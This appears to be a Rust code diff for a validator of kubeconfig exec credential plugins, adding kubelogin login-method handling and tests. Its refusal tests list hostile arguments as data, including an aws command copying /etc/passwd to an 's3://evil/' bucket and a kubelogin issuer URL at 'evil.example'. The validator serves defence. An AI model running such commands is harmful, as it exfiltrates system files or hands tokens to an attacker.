@@ -4,14 +4,19 @@
 
 use std::path::PathBuf;
 
+use clap::ValueEnum;
 use executor_api::ExecutorError;
 
 use super::document::{EnvEntry, ExecEntry};
-use super::plugin_arguments::{Authenticator, Aws, Gke, Kubelogin};
+use super::plugin_arguments::{Authenticator, Aws, Gke, Kubelogin, Login};
 use super::written::{Exec, Variable};
 
 /// For a person whose kubeconfig names another.
 const KNOWN: &str = "aws, aws-iam-authenticator, gke-gcloud-auth-plugin and kubelogin";
+const RIGHT_OF_KUBELOGIN: &str = "`get-token` with --server-id, --client-id, --tenant-id, --environment, and a --login \
+                                  (spn, workloadidentity, msi or azurecli)";
+/// By which kubelogin is told the login, where its arguments do not.
+const LOGIN_METHOD: &str = "AAD_LOGIN_METHOD";
 
 pub(crate) fn check(entry: &ExecEntry, at: &str) -> Result<Exec, ExecutorError> {
     let refuse = |field: &str, why: String| ExecutorError::invalid(&format!("{at}/{field}"), why);
@@ -20,15 +25,18 @@ pub(crate) fn check(entry: &ExecEntry, at: &str) -> Result<Exec, ExecutorError> 
         let error = "give client.authentication.k8s.io/v1 or client.authentication.k8s.io/v1beta1";
         return Err(refuse("apiVersion", error.to_owned()));
     }
+    let mut env = entry.env.as_deref().map(|env| check_env(env, at)).transpose()?.unwrap_or_default();
+    let mut login = None;
     let given = entry.args.as_deref().unwrap_or_default();
     let (args, right) = match entry.command.as_str() {
         "aws" => (Aws::anew(given), "`eks get-token` with --cluster-name, --region and --role-arn"),
         "aws-iam-authenticator" => (Authenticator::anew(given), "`token` with --cluster-id, --region and --role"),
         "gke-gcloud-auth-plugin" => (Gke::anew(given), "--use_application_default_credentials or nothing"),
-        "kubelogin" => (
-            Kubelogin::anew(given),
-            "`get-token` with --login, --server-id, --client-id, --tenant-id and --environment",
-        ),
+        "kubelogin" => {
+            let (args, found) = Kubelogin::anew(given, take_login(&mut env, at)?).unzip();
+            login = found;
+            (args, RIGHT_OF_KUBELOGIN)
+        }
         _ => {
             let error = format!(
                 "this program is not on the list: {KNOWN}, each by its bare name; or give the cluster by its name in \
@@ -44,10 +52,25 @@ pub(crate) fn check(entry: &ExecEntry, at: &str) -> Result<Exec, ExecutorError> 
     Ok(Exec {
         command: PathBuf::from(&entry.command),
         args,
-        env: entry.env.as_deref().map(|env| check_env(env, at)).transpose()?.unwrap_or_default(),
+        env,
         api_version: api_version.to_owned(),
         provide_cluster_info: entry.provide_cluster_info == Some(true),
+        login,
     })
+}
+
+/// The login of kubelogin that its environment says: the arguments will.
+fn take_login(env: &mut Vec<Variable>, at: &str) -> Result<Option<Login>, ExecutorError> {
+    let mut login = None;
+    for (index, set) in env.iter().enumerate().filter(|(_, one)| one.name == LOGIN_METHOD) {
+        let read = Login::from_str(&set.value, true).ok().filter(|read| *login.get_or_insert(*read) == *read);
+        if read.is_none() {
+            let error = "give one login: spn, workloadidentity, msi or azurecli";
+            return Err(ExecutorError::invalid(&format!("{at}/env/{index}/value"), error));
+        }
+    }
+    env.retain(|one| one.name != LOGIN_METHOD);
+    Ok(login)
 }
 
 /// The credentials of the kubeconfig's own, and where they count. All that points elsewhere, to the runner's files,
@@ -59,7 +82,7 @@ const VARIABLES: [&str; 13] = [
     "AWS_REGION",
     "AWS_DEFAULT_REGION",
     "AWS_STS_REGIONAL_ENDPOINTS",
-    "AAD_LOGIN_METHOD",
+    LOGIN_METHOD,
     "AAD_SERVICE_PRINCIPAL_CLIENT_ID",
     "AAD_SERVICE_PRINCIPAL_CLIENT_SECRET",
     "AZURE_CLIENT_ID",
@@ -101,7 +124,7 @@ mod tests {
 
     #[test]
     fn the_plugins_of_the_clouds_are_called_anew() {
-        let cases: [(&str, &[&str], &str); 6] = [
+        let cases: [(&str, &[&str], &str); 5] = [
             (
                 "aws",
                 &["--region", "eu-north-1", "eks", "get-token", "--cluster-name", "c", "--output", "json"],
@@ -119,7 +142,6 @@ mod tests {
                 &["get-token", "--server-id", "s", "-l", "workloadidentity", "--tenant-id=t"],
                 "get-token --login=workloadidentity --server-id=s --tenant-id=t",
             ),
-            ("kubelogin", &["get-token", "--server-id", "s"], "get-token --server-id=s"),
         ];
         for (command, args, anew) in cases {
             assert_eq!(exec(command, args, &Value::Null).unwrap().args.join(" "), anew);
@@ -128,7 +150,7 @@ mod tests {
 
     #[test]
     fn no_program_does_more_than_print_a_token() {
-        let cases: [(&str, &[&str]); 16] = [
+        let cases: [(&str, &[&str]); 17] = [
             ("aws", &[]),
             ("aws", &["s3", "cp", "/etc/passwd", "s3://evil/"]),
             ("aws", &["eks", "get-token"]),
@@ -142,8 +164,9 @@ mod tests {
             ("aws", &["--help"]),
             ("aws-iam-authenticator", &["server"]),
             ("gke-gcloud-auth-plugin", &["--impersonate_service_account=x"]),
-            ("kubelogin", &["get-token", "--server-id=s", "--client-secret=x"]),
-            ("kubelogin", &["get-token", "--oidc-issuer-url=https://evil.example"]),
+            ("kubelogin", &["get-token", "--login=spn", "--server-id=s", "--client-secret=x"]),
+            ("kubelogin", &["get-token", "--login=spn", "--oidc-issuer-url=https://evil.example"]),
+            ("kubelogin", &["get-token", "--server-id=s"]),
             ("kubelogin", &["get-token", "--server-id=s", "--login=devicecode"]),
         ];
         for (command, args) in cases {
@@ -154,6 +177,27 @@ mod tests {
             let refused = exec(command, &[], &Value::Null).err().unwrap_or_default();
             assert!(refused.starts_with("/exec/command: "), "{command:?}: {refused}");
         }
+    }
+
+    #[test]
+    fn kubelogin_logs_in_one_way_wherever_that_is_said() {
+        let set = |values: &[&str]| {
+            json!(values.iter().map(|value| json!({ "name": LOGIN_METHOD, "value": value })).collect::<Vec<_>>())
+        };
+        let with = |args: &[&str], values: &[&str]| {
+            let args = [&["get-token", "--server-id=s"], args].concat();
+            exec("kubelogin", &args, &set(values)).map(|exec| (exec.args.join(" "), exec.env.len()))
+        };
+        let anew = Ok(("get-token --login=spn --server-id=s".to_owned(), 0));
+        for (args, values) in [(&["-l", "spn"][..], &[][..]), (&[], &["SPN"]), (&["--login=spn"], &["spn", "spn"])] {
+            assert_eq!(with(args, values), anew, "{args:?} {values:?}");
+        }
+        for (values, at) in [(&["devicecode"][..], 0), (&[""], 0), (&["spn", "msi"], 1)] {
+            let refused = with(&[], values).unwrap_err();
+            assert!(refused.starts_with(&format!("/exec/env/{at}/value: give one login: spn, ")), "{refused}");
+        }
+        let refused = with(&["--login=spn"], &["msi"]).unwrap_err();
+        assert!(refused.starts_with("/exec/args: "), "{refused}");
     }
 
     #[test]
